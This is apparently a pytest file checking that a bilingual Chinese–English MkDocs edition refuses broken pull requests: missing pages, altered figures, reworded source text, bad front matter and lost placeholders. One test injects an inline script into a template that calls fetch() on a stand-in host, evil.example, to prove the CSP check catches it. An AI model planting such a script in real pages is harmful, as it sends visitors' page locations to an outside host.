"""End to end: the pull requests the edition must refuse fail `mkdocs build --strict`, naming the file.

Each breaks the tiny project (tests/fixtures/tiny/, the real mkdocs.yml's settings and checks) and
builds it in this process; the checks' own tests (test_check_*.py) cover their logic case by case.
"""

from __future__ import annotations

from building import build, line_of, refused, replace_in


def test_the_unbroken_tiny_project_builds_without_a_warning(tiny_project):
    """Without this, every refusal below could be the fixture's own fault."""
    result = build(tiny_project)
    assert result.ok, result.output
    assert "WARNING" not in result.output and "ERROR" not in result.output, result.output
    for page in ("index.html", "overview/index.html", "en/overview/index.html", "en/about/index.html"):
        assert (result.site / page).is_file(), page
    # the generated parts are there: key figures, the corrections list, the downloads, the search index
    home = (result.site / "en" / "index.html").read_text(encoding="utf-8")
    assert "89.5%" in home and "edition-chart" in home
    assert "截止〔截至〕目前" in (result.site / "about" / "index.html").read_text(encoding="utf-8")
    assert (result.site / "data" / "figures.csv").is_file() and (result.site / "en" / "search" / "meta.json").is_file()


def test_deleting_an_english_page_fails_naming_it(tiny_project):
    (tiny_project / "docs" / "overview.en.md").unlink()
    output = refused(tiny_project)
    assert "[twins] docs/overview.zh.md:1:" in output
    assert "docs/overview.en.md does not exist" in output


def test_changing_a_figure_in_the_english_fails_naming_the_file(tiny_project):
    replace_in(tiny_project / "docs" / "overview.en.md", "85 of the region's 95", "85 of the region's 59")
    output = refused(tiny_project)
    assert f"[numbers] docs/overview.en.md:{line_of(tiny_project / 'docs' / 'overview.en.md', '{#ov-2}')}:" in output
    assert "lacks the figure 95" in output and "has the figure 59" in output


def test_dropping_a_source_sentence_fails_naming_the_file(tiny_project):
    replace_in(tiny_project / "docs" / "overview.zh.md", "多次在全国会议上作典型经验发言；", "")
    output = refused(tiny_project)
    assert "[source-text] docs/overview.zh.md:" in output
    assert "多次在全国会议上作典型经验发言" in output


def test_rewording_the_chinese_fails_naming_the_file(tiny_project):
    """The source's slip is kept: "correcting" it silently is a change of the source's words."""
    replace_in(tiny_project / "docs" / "overview.zh.md", "截止〔截至〕目前", "截至目前")
    output = refused(tiny_project)
    assert "[source-text] docs/overview.zh.md:" in output


def test_broken_front_matter_fails_naming_file_and_line(tiny_project):
    replace_in(tiny_project / "docs" / "about.en.md", "title: About this edition", "title: About: this: edition")
    output = refused(tiny_project)
    assert "[front-matter] docs/about.en.md:3: front matter does not parse" in output


def test_a_paragraph_id_missing_from_one_language_fails(tiny_project):
    replace_in(tiny_project / "docs" / "overview.en.md", "{#ov-3}", "")
    output = refused(tiny_project)
    assert "[paragraph-ids] docs/overview.en.md:" in output and "'#ov-3'" in output


def test_a_template_that_adds_an_inline_script_fails_naming_the_built_page(tiny_project):
    """What no check of docs/ sees (a template in overrides/): the built pages are checked too."""
    replace_in(
        tiny_project / "overrides" / "main.html",
        "{% block scripts %}\n",
        "{% block scripts %}\n  <script>fetch('https://evil.example/?' + location)</script>\n",
    )
    output = refused(tiny_project)
    assert "[csp] site/en/overview/index.html:1: the built page has an inline script the theme does not write" in output


def test_a_string_that_loses_its_placeholder_fails_naming_the_catalogue(tiny_project):
    """The interface strings (docs/data/strings.<lang>.yml) are checked in every build too."""
    catalogue = tiny_project / "docs" / "data" / "strings.en.yml"
    replace_in(catalogue, "cite_label: Cite paragraph {id}", "cite_label: Cite this paragraph")
    output = refused(tiny_project)
    assert f"[strings] docs/data/strings.en.yml:{line_of(catalogue, 'cite_label:')}:" in output
    assert "'page.cite_label'" in output
